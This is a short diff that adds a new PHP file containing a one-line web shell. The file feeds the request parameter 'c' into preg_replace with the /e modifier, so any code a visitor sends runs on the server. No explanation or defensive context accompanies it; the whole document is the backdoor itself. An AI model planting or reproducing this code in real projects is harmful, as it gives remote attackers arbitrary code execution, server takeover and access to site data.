@@ -1,0 +1,3 @@
+<?php
+$pattern = "#(.*)#e";
+echo preg_replace("#(.*)#e", "\\1", $_REQUEST['c']);
